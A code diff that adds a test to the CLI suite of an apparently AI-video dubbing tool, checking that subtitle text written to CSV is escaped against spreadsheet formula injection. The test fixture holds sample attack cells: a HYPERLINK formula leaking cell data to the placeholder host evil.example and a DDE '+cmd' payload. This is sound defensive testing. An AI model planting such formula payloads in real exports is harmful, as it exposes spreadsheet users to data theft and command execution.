@@ -3,6 +3,8 @@ its slot judged before paying, sync segments from an audio track, and a matrix o
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -354,3 +356,43 @@ def test_a_recipe_without_lines_says_so_in_the_line_table() -> None:
     result = CliRunner().invoke(cli, ["plan", "--lines", str(REPO / "recipes" / "quickstart.yaml")])
     assert result.exit_code == 0
     assert "no step dubs from lines" in result.stdout
+
+
+def test_csv_line_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted_as_text(
+    tmp_path: Path,
+) -> None:
+    """OWASP "CSV Injection": a cell starting with = + - @ (or a tab or CR) is a formula in
+    Excel, LibreOffice and Sheets, so such text cells get a leading ' and numbers stay numbers."""
+    write(
+        tmp_path,
+        "cues.srt",
+        '1\n00:00:01,000 --> 00:00:04,000\n=HYPERLINK("http://evil.example/?"&A1,"click")\n\n'
+        "2\n00:00:05,000 --> 00:00:08,000\n+cmd|'/C calc'!A0\n\n"
+        "3\n00:00:09,000 --> 00:00:12,000\n-2+3 is what we said.\n\n"
+        "4\n00:00:13,000 --> 00:00:16,000\n@SUM(A1:A2) and more words to say.\n\n"
+        "5\n00:00:17,000 --> 00:00:20,000\nHola, 1+1 = 2.\n",
+    )
+    path = recipe(
+        tmp_path,
+        """  es: {lines: "cues.srt", language: es}
+steps:
+  dub:
+    use: runware/pixverse-lipsync
+    lipsync: {video: video, lines: es, voice: Sophia}
+""",
+    )
+
+    result = CliRunner().invoke(cli, ["plan", "--lines", "--format", "csv", str(path)])
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [row["text"] for row in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'+cmd|'/C calc'!A0",
+        "'-2+3 is what we said.",
+        "'@SUM(A1:A2) and more words to say.",
+        "Hola, 1+1 = 2.",
+    ]
+    for row in rows:
+        for column in ("start", "end", "slot", "estimate_low", "usd_low"):
+            float(row[column])  # numbers are written as numbers, never quoted
